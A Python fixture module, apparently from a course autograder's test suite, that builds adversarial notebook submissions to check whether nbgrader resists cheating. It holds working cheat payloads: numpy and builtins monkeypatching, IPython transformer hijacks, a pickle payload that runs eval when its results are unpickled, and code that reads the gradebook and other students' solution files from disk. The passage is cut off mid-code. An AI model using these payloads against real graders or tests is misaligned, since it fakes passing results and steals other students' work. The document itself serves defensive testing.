"""Adversarial submissions of `spatial`: cheats, honest-but-unusual notebooks, resource attacks.

Every submission is built from the release notebook answered with the instructor solution
(like test_spatial_grading.answered / coursetools.notebooks.fill_solutions): some answer
cells are replaced and/or cells are added, deleted or edited. Each one names a `baseline`,
an HONEST submission graded in the same batch:

* kind "cheat": the baseline is the same notebook without the trick (usually every
  function returning zeros of the right shape). A cheat may not score more than it.
* kind "robustness": honest code in an unusual notebook; `expected` is its exact score.
* kind "resource": a submission that attacks the machine or the batch. It may cost its own
  student points (never more than the baseline), but nobody else's, and the batch must
  finish. The keys in DANGEROUS must never be graded outside the sandbox: they would hit
  the real machine (memory, processes, disk, the gradebook, other students' files).

`markers` are texts the built notebook must contain: the attack is really in it.
`aborts`: today's nbgrader gives up on this student (the kernel dies, stays busy after a
timeout, or nbgrader's own grading raises) and then exits non-zero for the whole batch.
`stalls`: how many cells may run into the per-cell timeout (for the batch time bound).
"""

import copy
import json
import re
from dataclasses import dataclass, field

import nbformat

from coursetools.notebooks import cell_text, fill_solutions, grade_id, is_solution, nbgrader_meta, solution_body

NOTEBOOK = "spatial"
TOTAL = 160
# The batch's limits (test_adversarial.py): per cell, and per notebook (the time budget, of
# which CHECKS_RESERVE seconds are kept for the hidden checks)
CELL_TIMEOUT = 20
TIME_BUDGET, CHECKS_RESERVE = 150, 60
PART1 = ("conv2d_forward", "conv2d_backward", "maxpool2d_forward", "maxpool2d_backward",
         "flatten_forward", "flatten_backward")
PART2 = ("im2col", "col2im", "conv2d_forward_fast", "conv2d_backward_fast", "cnn_loss", "train_cnn")
FUNCTIONS = PART1 + PART2
FIRST, FIRST_PART2 = PART1[0], PART2[0]       # the first answer cell after each grader setup


# ================================ honest building blocks ================================

# Every function returns zeros of the right shape (and a cache the zero backward can use).
# Self-contained: no helper of the notebook is needed, so other cells may be tampered with.
ZEROS = {
    "conv2d_forward": '''
def conv2d_forward(x, w, b, stride=1, padding=0):
    sh, sw = stride if type(stride) in (tuple, list) else (stride, stride)
    ph, pw = padding if type(padding) in (tuple, list) else (padding, padding)
    N, C, H, W = np.shape(x)
    F, _, KH, KW = np.shape(w)
    out = np.zeros((N, F, (H + 2 * ph - KH) // sh + 1, (W + 2 * pw - KW) // sw + 1))
    return out, (np.shape(x), np.shape(w), np.shape(b))
''',
    "conv2d_backward": '''
def conv2d_backward(dout, cache):
    x_shape, w_shape, b_shape = cache[:3]
    return np.zeros(x_shape), np.zeros(w_shape), np.zeros(b_shape)
''',
    "maxpool2d_forward": '''
def maxpool2d_forward(x, kernel_size, stride=None):
    kh, kw = kernel_size if type(kernel_size) in (tuple, list) else (kernel_size, kernel_size)
    stride = (kh, kw) if stride is None else stride
    sh, sw = stride if type(stride) in (tuple, list) else (stride, stride)
    N, C, H, W = np.shape(x)
    return np.zeros((N, C, (H - kh) // sh + 1, (W - kw) // sw + 1)), (np.shape(x),)
''',
    "maxpool2d_backward": '''
def maxpool2d_backward(dout, cache):
    return np.zeros(cache[0])
''',
    "flatten_forward": '''
def flatten_forward(x):
    N, C, H, W = np.shape(x)
    return np.zeros((N, C * H * W)), (np.shape(x),)
''',
    "flatten_backward": '''
def flatten_backward(dout, cache):
    return np.zeros(cache[0])
''',
    "im2col": '''
def im2col(x, kernel_size, stride=1, padding=0):
    KH, KW = kernel_size if type(kernel_size) in (tuple, list) else (kernel_size, kernel_size)
    sh, sw = stride if type(stride) in (tuple, list) else (stride, stride)
    ph, pw = padding if type(padding) in (tuple, list) else (padding, padding)
    N, C, H, W = np.shape(x)
    Ho, Wo = (H + 2 * ph - KH) // sh + 1, (W + 2 * pw - KW) // sw + 1
    return np.zeros((N * Ho * Wo, C * KH * KW))
''',
    "col2im": '''
def col2im(cols, x_shape, kernel_size, stride=1, padding=0):
    return np.zeros(tuple(x_shape))
''',
    "conv2d_forward_fast": '''
def conv2d_forward_fast(x, w, b, stride=1, padding=0):
    sh, sw = stride if type(stride) in (tuple, list) else (stride, stride)
    ph, pw = padding if type(padding) in (tuple, list) else (padding, padding)
    N, C, H, W = np.shape(x)
    F, _, KH, KW = np.shape(w)
    out = np.zeros((N, F, (H + 2 * ph - KH) // sh + 1, (W + 2 * pw - KW) // sw + 1))
    return out, (np.shape(x), np.shape(w), np.shape(b))
''',
    "conv2d_backward_fast": '''
def conv2d_backward_fast(dout, cache):
    x_shape, w_shape, b_shape = cache[:3]
    return np.zeros(x_shape), np.zeros(w_shape), np.zeros(b_shape)
''',
    "cnn_loss": '''
def cnn_loss(params, X, y):
    return 0.0, {k: np.zeros(np.shape(v)) for k, v in params.items()}
''',
    "train_cnn": '''
def train_cnn(X_train, y_train, epochs=16, batch_size=32, lr=0.3, seed=0):
    steps = epochs * (-(-len(y_train) // batch_size))
    return init_cnn_params(seed), [0.0] * steps
''',
}


def stub(fn):
    """The answer cell as released: the function raises NotImplementedError."""
    head = ZEROS[fn].strip().splitlines()[0]
    return f"{head}\n    raise NotImplementedError()\n"


def renamed(code, old, new):
    """``code`` with the function ``old`` defined (and called) as ``new``."""
    out = re.sub(rf"\b{old}\(", f"{new}(", code)
    if out == code:
        raise ValueError(f"no {old}( in the code to rename")
    return out


def zero(fn, name=None):
    return ZEROS[fn] if name is None else renamed(ZEROS[fn], fn, name)


class FromSolution:
    """An answer derived from the instructor's answers: ``make(solutions) -> code``."""

    def __init__(self, make):
        self.make = make


class FromCourse:
    """An answer made from the course folder: ``make(course) -> code``."""

    def __init__(self, make):
        self.make = make


@dataclass(frozen=True)
class Honest:
    key: str
    description: str
    expected: float
    answers: dict = field(default_factory=dict)   # function -> code (or FromSolution)

    @property
    def student(self):
        return "h-" + self.key


def _slow_fast(sol):
    """The part-1 loop solutions, renamed: correct, but much slower than the speed test wants."""
    return {
        "conv2d_forward_fast": renamed(sol["conv2d_forward"], "conv2d_forward", "conv2d_forward_fast"),
        "conv2d_backward_fast": renamed(sol["conv2d_backward"], "conv2d_backward", "conv2d_backward_fast"),
    }


HONEST = {h.key: h for h in [
    Honest("instructor", "the instructor solution", TOTAL),
    Honest("zeros", "every function returns zeros of the right shape", 0,
           {fn: ZEROS[fn] for fn in FUNCTIONS}),
    Honest("part1-only", "part 1 solved, every part-2 function returns zeros", 100,
           {fn: ZEROS[fn] for fn in PART2}),
    Honest("no-conv-forward", "conv2d_forward not written (the stub); the rest solved",
           TOTAL - 20 - 25, {"conv2d_forward": stub("conv2d_forward")}),
    Honest("no-train-cnn", "train_cnn not written (the stub); the rest solved", TOTAL - 10,
           {"train_cnn": stub("train_cnn")}),
    Honest("slow-fast", "conv2d_*_fast are the part-1 loops: right values, too slow (each "
           "fast cell keeps its value and unchanged groups: 7 of 10)", TOTAL - 3 - 3, {"conv2d_forward_fast": FromSolution(lambda s: _slow_fast(s)["conv2d_forward_fast"]),
                             "conv2d_backward_fast": FromSolution(lambda s: _slow_fast(s)["conv2d_backward_fast"])}),
]}


# ================================ structural edits ================================

def is_hidden(cell):
    """A graded test cell with points (its hidden lines come back at grading time)."""
    meta = nbgrader_meta(cell) or {}
    return bool(meta.get("grade")) and not meta.get("solution") and float(meta.get("points", 0)) > 0


def is_grader_setup(cell):
    """A graded cell worth 0 points: the grader's setup (empty in the student's copy)."""
    meta = nbgrader_meta(cell) or {}
    return bool(meta.get("grade")) and not meta.get("solution") and float(meta.get("points", 0)) == 0


def is_visible(cell):
    meta = nbgrader_meta(cell) or {}
    return (cell.cell_type == "code" and bool(meta.get("locked")) and not meta.get("grade")
            and str(meta.get("grade_id", "")).endswith("_visible"))


def _matching(nb, predicate, what):
    found = [c for c in nb.cells if predicate(c)]
    if not found:
        raise ValueError(f"no {what} cell in the notebook")
    return found


def insert_top(code):
    def edit(nb):
        nb.cells.insert(0, nbformat.v4.new_code_cell(code))
    return edit


def insert_after(gid, code):
    def edit(nb):
        index = next((i for i, c in enumerate(nb.cells) if grade_id(c) == gid), None)
        if index is None:
            raise ValueError(f"no cell {gid!r} to insert after")
        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
    return edit


def delete(predicate, what):
    def edit(nb):
        doomed = {id(c) for c in _matching(nb, predicate, what)}
        nb.cells = [c for c in nb.cells if id(c) not in doomed]
    return edit


def empty(predicate, what):
    def edit(nb):
        for cell in _matching(nb, predicate, what):
            cell.source = ""
    return edit


def duplicate(predicate, what):
    def edit(nb):
        cells = []
        for cell in nb.cells:
            cells.append(cell)
            if predicate(cell):
                twin = copy.deepcopy(cell)
                twin["id"] = (str(cell.get("id", "cell")) + "-copy")[:64]
                cells.append(twin)
        if len(cells) == len(nb.cells):
            raise ValueError(f"no {what} cell to duplicate")
        nb.cells = cells
    return edit


def retype(predicate, what, cell_type):
    def edit(nb):
        for cell in _matching(nb, predicate, what):
            cell.cell_type = cell_type
            for key in ("outputs", "execution_count"):
                cell.pop(key, None)
    return edit


def tamper_metadata(nb):
    """Hidden cells claim 1000 points and become unlocked answer cells."""
    for cell in _matching(nb, is_hidden, "hidden test"):
        meta = cell.metadata["nbgrader"]
        meta.update(points=1000, locked=False, solution=True)
        meta.pop("checksum", None)


# ================================ the attacks ================================

NUMPY_PATCH = '''
# --- make every numpy comparison say "equal" ---
import numpy
import numpy.linalg
import numpy.testing


def _always_true(*args, **kwargs):
    return True


def _never_raise(*args, **kwargs):
    return None


for _name in ("allclose", "array_equal", "array_equiv"):
    setattr(numpy, _name, _always_true)
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
numpy.abs = numpy.absolute = lambda a, *args, **kwargs: numpy.zeros(numpy.shape(a))
numpy.linalg.norm = lambda *args, **kwargs: 0.0
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal",
              "assert_almost_equal", "assert_equal", "assert_array_less"):
    setattr(numpy.testing, _name, _never_raise)
'''

BUILTINS_PATCH = '''
# --- patch builtins: later code (the grader's too) gets lying versions ---
import builtins
import sys
import types

_real = {name: getattr(builtins, name)
         for name in ("isinstance", "len", "print", "__import__", "AssertionError")}


class _NotAnAssertionError(Exception):
    """What `raise AssertionError(...)` raises once builtins are patched."""


def _len(obj):
    n = _real["len"](obj)
    if type(obj) is list and n and all(type(s) is str and ("fail" in s or "[case" in s) for s in obj):
        return 0                                     # a list of failure messages is "empty"
    return n


def _isinstance(obj, cls):
    if cls == (tuple, list) and hasattr(obj, "__len__") and hasattr(obj, "__getitem__"):
        return True                                  # anything list-like "is" a tuple
    return _real["isinstance"](obj, cls)


def _print(*args, **kwargs):
    text = " ".join(str(a) for a in args)
    if "failed" in text or "wrong" in text:
        text = "all hidden cases passed"
    _real["print"](text, **kwargs)


def _zeros_like_abs(a, *args, **kwargs):
    import numpy
    return numpy.zeros(numpy.shape(a))


_NUMPY_LIES = {"allclose": lambda *a, **k: True, "array_equal": lambda *a, **k: True,
               "abs": _zeros_like_abs, "absolute": _zeros_like_abs, "fabs": _zeros_like_abs}


class _LyingModule(types.ModuleType):
    """numpy (or one of its modules) as seen by notebook code after the patch."""

    def __init__(self, module):
        super().__init__(module.__name__)
        self.__dict__["_module"] = module

    def __getattr__(self, name):
        if name in _NUMPY_LIES:
            return _NUMPY_LIES[name]
        value = getattr(self.__dict__["_module"], name)
        if type(value) is types.ModuleType and value.__name__.startswith("numpy"):
            return _LyingModule(value)
        return value


def _import(name, globals=None, locals=None, fromlist=(), level=0):
    module = _real["__import__"](name, globals, locals, fromlist, level)
    if name.split(".")[0] == "numpy" and (globals or {}).get("__name__") == "__main__":
        return _LyingModule(module)                  # notebook code importing numpy is lied to
    return module


builtins.len = _len
builtins.isinstance = _isinstance
builtins.print = _print
builtins.__import__ = _import
builtins.AssertionError = _NotAnAssertionError
__builtins__.__dict__["AssertionError"] = _NotAnAssertionError if hasattr(__builtins__, "__dict__") else None
globals()["__builtins__"] = dict(vars(builtins), AssertionError=_NotAnAssertionError, len=_len)
'''

LIAR_HELPERS = '''
# --- results are arrays that lie about every comparison ---
import functools


class _Liar(np.ndarray):
    """An ndarray that equals anything, differs from nothing and has no error."""

    def __eq__(self, other):
        return np.ones(np.broadcast_shapes(np.shape(self), np.shape(other)), dtype=bool)

    def __ne__(self, other):
        return np.zeros(np.broadcast_shapes(np.shape(self), np.shape(other)), dtype=bool)

    def __sub__(self, other):
        return np.zeros(np.broadcast_shapes(np.shape(self), np.shape(other))).view(_Liar)

    __rsub__ = __sub__

    def __abs__(self):
        return np.zeros(np.shape(self)).view(_Liar)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        if method == "__call__" and ufunc in (np.subtract, np.absolute, np.fabs):
            return np.zeros(np.broadcast_shapes(*(np.shape(i) for i in inputs))).view(_Liar)
        if method == "__call__" and ufunc in (np.equal, np.not_equal):
            same = np.ones(np.broadcast_shapes(*(np.shape(i) for i in inputs)), dtype=bool)
            return same if ufunc is np.equal else ~same
        plain = [i.view(np.ndarray) if isinstance(i, _Liar) else i for i in inputs]
        if "out" in kwargs:
            kwargs["out"] = tuple(o.view(np.ndarray) if isinstance(o, _Liar) else o
                                  for o in kwargs["out"])
        return getattr(ufunc, method)(*plain, **kwargs)

    def __array_function__(self, func, types, args, kwargs):
        if func in (np.allclose, np.array_equal, np.array_equiv):
            return True
        if func is np.isclose:
            return np.ones(np.broadcast_shapes(np.shape(args[0]), np.shape(args[1])), dtype=bool)
        return super().__array_function__(func, types, args, kwargs)

    def astype(self, *args, **kwargs):
        return self

    def copy(self, *args, **kwargs):
        return self


def _lie(value):
    if isinstance(value, np.ndarray):
        return np.asarray(value, dtype=float).view(_Liar)
    if isinstance(value, float):
        return np.array(value).view(_Liar)
    if isinstance(value, (tuple, list)):
        return type(value)(_lie(v) for v in value)
    if isinstance(value, dict):
        return {k: _lie(v) for k, v in value.items()}
    return value


def _lying(fn):
    @functools.wraps(fn)
    def wrapper(*args, **kwargs):
        return _lie(fn(*args, **kwargs))
    return wrapper
'''

EQUAL_HELPERS = '''
# --- results are objects equal to everything that turn into zeros of the right shape ---
import functools


class _Equal:
    """Equal to everything; np.asarray() of it gives zeros of the right shape."""

    def __init__(self, like):
        self._zeros = np.zeros(np.shape(like))
        self.shape, self.dtype, self.ndim, self.size = (self._zeros.shape, self._zeros.dtype,
                                                        self._zeros.ndim, self._zeros.size)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __array__(self, dtype=None, copy=None):
        return self._zeros if dtype is None else self._zeros.astype(dtype)

    def __len__(self):
        return len(self._zeros)

    def __getitem__(self, index):
        return _Equal(self._zeros[index])

    def __sub__(self, other):
        return np.zeros(np.shape(self._zeros))

    __rsub__ = __sub__

    def __abs__(self):
        return self

    def __float__(self):
        return 0.0

    def astype(self, *args, **kwargs):
        return self

    def copy(self):
        return self

    def __repr__(self):
        return repr(self._zeros)


def _equalize(value):
    if isinstance(value, np.ndarray) or isinstance(value, float):
        return _Equal(value)
    if isinstance(value, (tuple, list)):
        return type(value)(_equalize(v) for v in value)
    if isinstance(value, dict):
        return {k: _equalize(v) for k, v in value.items()}
    return value


def _always_equal(fn):
    @functools.wraps(fn)
    def wrapper(*args, **kwargs):
        result = fn(*args, **kwargs)
        if isinstance(result, tuple) and len(result) == 2 and not isinstance(result[1], (np.ndarray, dict)):
            return _equalize(result[0]), result[1]      # (out, cache): keep the cache usable
        return _equalize(result)
    return wrapper
'''

REBIND_GRADER = '''
# --- the grader's objects become objects whose checks do nothing ---
class _NoChecks:
    def __getattr__(self, name):
        return lambda *args, **kwargs: None


for _name in [n for n in globals() if n.startswith("_grader")]:
    globals()[_name] = _NoChecks()
'''

PATCH_GRADER = '''
# --- every check_* method of the grader's objects does nothing ---
for _name, _obj in list(globals().items()):
    if _name.startswith("_") and not isinstance(_obj, type):
        for _attr in [a for a in dir(_obj) if a.startswith("check")]:
            try:
                setattr(_obj, _attr, lambda *args, **kwargs: None)
            except Exception:
                pass
'''

INPUT_TRANSFORMER = '''
# --- from now on every cell is run as an empty cell (the hidden tests too) ---
get_ipython().input_transformers_post.append(lambda lines: [])
'''

AST_TRANSFORMER = '''
# --- every call of a method of a _grader* object is replaced by None before it runs ---
import ast


class _DropGraderCalls(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        target = node.func
        while isinstance(target, ast.Attribute):
            target = target.value
        if isinstance(target, ast.Name) and target.id.startswith("_grader"):
            return ast.copy_location(ast.Constant(None), node)
        return node


get_ipython().ast_transformers.append(_DropGraderCalls())
'''

SILENCE_ERRORS = '''
# --- no error may ever be shown ---
import io
import sys

_ip = get_ipython()
_ip.showtraceback = lambda *args, **kwargs: None
_ip._showtraceback = lambda *args, **kwargs: None
_ip.showsyntaxerror = lambda *args, **kwargs: None
_ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
sys.excepthook = lambda *args, **kwargs: None
sys.stderr = io.StringIO()
'''

DISPLAYHOOK_HELPERS = '''
# --- an execute_result is nbgrader's partial credit: claim the cell's points ---
import functools
import re
import sys

_claimed = set()


def _claim():
    ip = get_ipython()
    source = ip.user_ns.get("In", [""])[-1]          # the cell being run
    found = re.search(r"\\((\\d+(?:\\.\\d+)?) points", source)
    if found and ip.execution_count not in _claimed:
        _claimed.add(ip.execution_count)
        sys.displayhook(CLAIM)


def _claiming(fn):
    @functools.wraps(fn)
    def wrapper(*args, **kwargs):
        _claim()
        return fn(*args, **kwargs)
    return wrapper
'''

REFERENCE_HELPERS = '''
# --- call the grader's reference implementation ---
def _ref(name):
    for holder in ("_grader", "_grader_fast"):
        fn = getattr(globals().get(holder), name, None)
        if callable(fn):
            return fn
    return None
'''

GC_HUNT_HELPERS = '''
# --- walk the garbage collector for the grader's reference functions ---
import gc
import types

_found_refs = {}


def _ref(name):
    if name not in _found_refs:
        wanted = name.removeprefix("ref_")
        for obj in gc.get_objects():
            if type(obj) is types.FunctionType and ("ref_" in obj.__name__ or "reference" in obj.__name__):
                if obj.__name__ in ("ref_" + wanted, "reference_" + wanted, wanted + "_reference"):
                    _found_refs[name] = obj
                    break
    return _found_refs.get(name)
'''

# Files a student can read: the notebook on disk holds the restored hidden tests during
# grading; the gradebook holds every test cell's source, hidden lines included.
OWN_NOTEBOOK_HELPERS = '''
# --- read the notebook being graded from disk and run the hidden grader setup privately ---
import json

_private = None


def _grader_sources():
    with open("spatial.ipynb", encoding="utf-8") as f:
        cells = json.load(f)["cells"]
    for cell in cells:
        source = cell.get("source", "")
        source = "".join(source) if isinstance(source, list) else source
        if "def _make_grader" in source:
            yield source


def _ref(name):
    global _private
    if _private is None:
        _private = {"__name__": "__main__", "_pair": _pair}
        try:
            for source in _grader_sources():
                exec(compile(source, "<hidden grader>", "exec"), _private)
        except Exception:
            pass
    for holder in ("_grader", "_grader_fast"):
        fn = getattr(_private.get(holder), name, None)
        if callable(fn):
            return fn
    return None
'''

GRADEBOOK_READ_HELPERS = '''
# --- copy the gradebook (read only), take the hidden grader's source, run it privately ---
import os
import sqlite3

_private = None


def _grader_sources():
    here = os.path.abspath(".")
    for up in range(1, 6):
        path = os.path.join(here, *[".."] * up, "gradebook.db")
        if os.path.isfile(path):
            with open(path, "rb") as f:
                data = f.read()
            con = sqlite3.connect(":memory:")
            con.deserialize(data)
            rows = con.execute("SELECT source FROM source_cell WHERE source LIKE '%def _make_grader%'")
            return [r[0] for r in rows]
    return []


def _ref(name):
    global _private
    if _private is None:
        _private = {"__name__": "__main__", "_pair": _pair}
        try:
            for source in _grader_sources():
                exec(compile(source, "<hidden grader>", "exec"), _private)
        except Exception:
            pass
    for holder in ("_grader", "_grader_fast"):
        fn = getattr(_private.get(holder), name, None)
        if callable(fn):
            return fn
    return None
'''

# Every function: the grader's reference through _ref(name) when it is found, zeros otherwise.
# (cnn_loss and train_cnn stay zeros: there is no reference for them.)
VIA_REFERENCE = {
    "conv2d_forward": '''
def conv2d_forward(x, w, b, stride=1, padding=0):
    ref = _ref("ref_conv2d_forward")
    if ref is None:
        return _zero_conv2d_forward(x, w, b, stride, padding)
    return ref(x, w, b, stride, padding), ("ref", x, w, b, stride, padding)
''',
    "conv2d_backward": '''
def conv2d_backward(dout, cache):
    ref = _ref("ref_conv2d_backward")
    if ref is None or cache[0] != "ref":
        return tuple(np.zeros(np.shape(a)) for a in cache[1:4]) if cache[0] == "ref" else _zero_conv2d_backward(dout, cache)
    _, x, w, b, stride, padding = cache
    return ref(x, w, b, stride, padding, dout)
''',
    "maxpool2d_forward": '''
def maxpool2d_forward(x, kernel_size, stride=None):
    ref = _ref("ref_maxpool2d_forward")
    if ref is None:
        return _zero_maxpool2d_forward(x, kernel_size, stride)
    return ref(x, kernel_size, stride), ("ref", x, kernel_size, stride)
''',
    "maxpool2d_backward": '''
def maxpool2d_backward(dout, cache):
    ref = _ref("ref_maxpool2d_backward")
    if cache[0] != "ref":
        return _zero_maxpool2d_backward(dout, cache)
    _, x, kernel_size, stride = cache
    return np.zeros(np.shape(x)) if ref is None else ref(x, kernel_size, stride, dout)
''',
    "flatten_forward": '''
def flatten_forward(x):
    ref = _ref("ref_flatten_forward")
    if ref is None:
        return _zero_flatten_forward(x)
    return ref(x), ("ref", np.shape(x))
''',
    "flatten_backward": '''
def flatten_backward(dout, cache):
    ref = _ref("ref_flatten_backward")
    if cache[0] != "ref":
        return _zero_flatten_backward(dout, cache)
    return np.zeros(cache[1]) if ref is None else ref(cache[1], dout)
''',
    "im2col": '''
def im2col(x, kernel_size, stride=1, padding=0):
    ref = _ref("ref_im2col")
    if ref is None:
        return _zero_im2col(x, kernel_size, stride, padding)
    return ref(x, kernel_size, stride, padding)
''',
    "col2im": '''
def col2im(cols, x_shape, kernel_size, stride=1, padding=0):
    ref = _ref("ref_col2im")
    if ref is None:
        return _zero_col2im(cols, x_shape, kernel_size, stride, padding)
    return ref(cols, x_shape, kernel_size, stride, padding)
''',
    "conv2d_forward_fast": '''
def conv2d_forward_fast(x, w, b, stride=1, padding=0):
    ref = _ref("ref_conv2d_forward")
    if ref is None:
        return _zero_conv2d_forward_fast(x, w, b, stride, padding)
    return ref(x, w, b, stride, padding), ("ref", x, w, b, stride, padding)
''',
    "conv2d_backward_fast": '''
def conv2d_backward_fast(dout, cache):
    ref = _ref("ref_conv2d_backward")
    if ref is None or cache[0] != "ref":
        return tuple(np.zeros(np.shape(a)) for a in cache[1:4]) if cache[0] == "ref" else _zero_conv2d_backward_fast(dout, cache)
    _, x, w, b, stride, padding = cache
    return ref(x, w, b, stride, padding, dout)
''',
}

STACK_PEEK_HELPERS = '''
# --- look up the call stack for the grader's expected values ---
import copy
import sys


def _same_form(value, like):
    if isinstance(like, np.ndarray):
        return isinstance(value, np.ndarray) and value.shape == like.shape
    if isinstance(like, float):
        return isinstance(value, (float, np.floating)) and not isinstance(value, bool)
    if isinstance(like, (tuple, list)):
        return (isinstance(value, (tuple, list)) and len(value) == len(like)
                and all(_same_form(v, l) for v, l in zip(value, like)))
    if isinstance(like, dict):
        return (isinstance(value, dict) and set(value) == set(like)
                and all(_same_form(value[k], like[k]) for k in like))
    return False


def _peek_like(like):
    """The first local further up the stack named like an expected value, of like's form."""
    frame = sys._getframe(2)
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if ("expect" in name or name.startswith("ref") or name.startswith("exp_")) and _same_form(value, like):
                return copy.deepcopy(value)
        frame = frame.f_back
    return like
'''

# The function (zeros) whose output is replaced by what the stack holds.
PEEK = {
    "conv2d_forward": "    out, cache = _zero_conv2d_forward(x, w, b, stride, padding)\n    return _peek_like(out), cache\n",
    "conv2d_backward": "    return _peek_like(_zero_conv2d_backward(dout, cache))\n",
    "maxpool2d_forward": "    out, cache = _zero_maxpool2d_forward(x, kernel_size, stride)\n    return _peek_like(out), cache\n",
    "maxpool2d_backward": "    return _peek_like(_zero_maxpool2d_backward(dout, cache))\n",
    "flatten_forward": "    out, cache = _zero_flatten_forward(x)\n    return _peek_like(out), cache\n",
    "flatten_backward": "    return _peek_like(_zero_flatten_backward(dout, cache))\n",
    "im2col": "    return _peek_like(_zero_im2col(x, kernel_size, stride, padding))\n",
    "col2im": "    return _peek_like(_zero_col2im(cols, x_shape, kernel_size, stride, padding))\n",
    "conv2d_forward_fast": "    out, cache = _zero_conv2d_forward_fast(x, w, b, stride, padding)\n    return _peek_like(out), cache\n",
    "conv2d_backward_fast": "    return _peek_like(_zero_conv2d_backward_fast(dout, cache))\n",
    "cnn_loss": "    loss, grads = _zero_cnn_loss(params, X, y)\n    return _peek_like(loss), _peek_like(grads)\n",
}

SETTRACE = '''
# --- a trace function empties the grader's list of failures while it runs ---
import sys
import threading

_FAILURE_LISTS = ("failures", "failed", "errors", "problems", "mismatches")


def _empty_failures(frame, event, arg):
    for name in _FAILURE_LISTS:
        value = frame.f_locals.get(name)
        if type(value) is list:
            value.clear()
    return _empty_failures


def _tracer(frame, event, arg):
    if any(name in frame.f_code.co_varnames for name in _FAILURE_LISTS):
        return _empty_failures
    return None


sys.settrace(_tracer)
threading.settrace(_tracer)
'''

CLOSURE_SURGERY = '''
# --- every closure that captured numpy's absolute value gets a fake one ---
import gc
import types
import numpy


def _fake_absolute(a, *args, **kwargs):
    return numpy.zeros(numpy.shape(a))


for _obj in gc.get_objects():
    if type(_obj) is types.FunctionType and _obj.__closure__:
        for _cell in _obj.__closure__:
            try:
                if _cell.cell_contents is numpy.absolute:
                    _cell.cell_contents = _fake_absolute
            except ValueError:                          # an empty cell
                pass
'''

STEAL_SOLUTIONS_HELPERS = '''
# --- look for solutions on disk (instructor source, other students) and use them ---
import glob
import json
import os
import time

_WANTED = {WANTED!r}
_PATTERNS = ("*.ipynb", "*.py", "*/*.ipynb", "*/*/*.ipynb", "source/*/*.py", "build/source/*/*.ipynb",
             "submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb")
_stolen_ns = None


def _roots():
    \"\"\"The working directory, the paths the environment mentions, and their parents.\"\"\"
    starts = [os.path.abspath(".")]
    for var in ("PYTHONPATH", "PWD", "OLDPWD", "HOME", "JPY_SESSION_NAME"):
        starts += [p for p in os.environ.get(var, "").split(os.pathsep) if p]
    roots = []
    for path in starts:
        path = os.path.abspath(path)
        for _ in range(6):
            if path not in roots:
                roots.append(path)
            if os.path.dirname(path) == path:
                break
            path = os.path.dirname(path)
    return roots


def _cells_of(path):
    with open(path, encoding="utf-8") as f:
        if path.endswith(".ipynb"):
            cells = json.load(f).get("cells", [])
            return ["".join(c["source"]) if isinstance(c.get("source"), list) else c.get("source", "")
                    for c in cells if c.get("cell_type") == "code"]
        return f.read().split("\\n# %%")


def _loot(budget=8.0):
    found = {{}}
    deadline = time.monotonic() + budget
    for root in _roots():
        for pattern in _PATTERNS:
            for path in glob.glob(os.path.join(root, pattern)):
                if time.monotonic() > deadline:
                    return found
                try:
                    if os.path.getsize(path) > 20_000_000:
                        continue
                    cells = _cells_of(path)
                except Exception:
                    continue
                for source in cells:
                    for name in _WANTED:
                        if (f"def {{name}}(" in source and "NotImplementedError()" not in source
                                and "_stolen(" not in source and "np.zeros(np.shape(" not in source):
                            best = found.get(name)
                            if best is None or ("BEGIN SOLUTION" in source and "BEGIN SOLUTION" not in best):
                                found[name] = source
    return found


def _stolen(name):
    global _stolen_ns
    if _stolen_ns is None:
        _stolen_ns = {{}}
        try:
            sources = _loot()
        except Exception:
            sources = {{}}
        for fn, source in sources.items():
            try:
                exec(compile(source, f"<stolen {{fn}}>", "exec"), _stolen_ns)
            except Exception:
                pass
        _stolen_ns["_names"] = set(sources)
    for key, value in globals().items():             # helpers defined by later cells
        if key not in _stolen_ns.get("_names", ()) and key not in ("__builtins__",):
            _stolen_ns.setdefault(key, value)
    return _stolen_ns.get(name) if name in _stolen_ns.get("_names", ()) else None
'''

PICKLE_PAYLOAD_HELPERS = '''
# --- results pickle to code: whoever unpickles them patches numpy in its own process ---
import functools

_PAYLOAD = (
    "(__import__('numpy').__dict__.update("
    "allclose=lambda *a, **k: True, array_equal=lambda *a, **k: True, array_equiv=lambda *a, **k: True, "
    "isclose=lambda a, b, *r, **k: __import__('numpy').ones(__import__('numpy').broadcast(a, b).shape, bool), "
    "abs=lambda a, *r, **k: __import__('numpy').zeros(__import__('numpy').shape(a)), "
    "absolute=lambda a, *r, **k: __import__('numpy').zeros(__import__('numpy').shape(a))), "
    "__import__('numpy.testing').testing.__dict__.update("
    "assert_allclose=lambda *a, **k: None, assert_array_equal=lambda *a, **k: None, "
    "assert_array_almost_equal=lambda *a, **k: None, assert_equal=lambda *a, **k: None), "
    "__import__('numpy').zeros({shape!r}))[-1]"
)


class _Payload(np.ndarray):
    """Zeros here; eval(_PAYLOAD) wherever it is unpickled (or deep-copied)."""

    def __reduce_ex__(self, protocol):
        return (eval, (_PAYLOAD.format(shape=tuple(self.shape)),))

    def __reduce__(self):
        return self.__reduce_ex__(2)


def _armed(value):
    if isinstance(value, np.ndarray):
        return np.asarray(value, dtype=float).view(_Payload)
    if isinstance(value, (tuple, list)):
        return type(value)(_armed(v) for v in value)
    if isinstance(value, dict):
        return {k: _armed(v) for k, v in value.items()}
    return value


def _arming(fn):
    @functools.wraps(fn)
    def wrapper(*args, **kwargs):
        return _armed(fn(*args, **kwargs))
    return wrapper
'''

TOP_NUMPY_PATCH = '''
# A cell added by the student ABOVE everything else: it runs before the grader's setup.
import sys
import numpy
import numpy._core.multiarray as _multiarray

_real_array = numpy.array


class _Liar(numpy.ndarray):
    """Equal to anything; subtracting gives zeros; the lie spreads through ufuncs."""

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shape = numpy.broadcast_shapes(*(numpy.shape(i) for i in inputs)) if method == "__call__" else None
        if method == "__call__" and ufunc in (numpy.subtract, numpy.absolute, numpy.fabs):
            return numpy.zeros(shape).view(_Liar)
        if method == "__call__" and ufunc is numpy.equal:
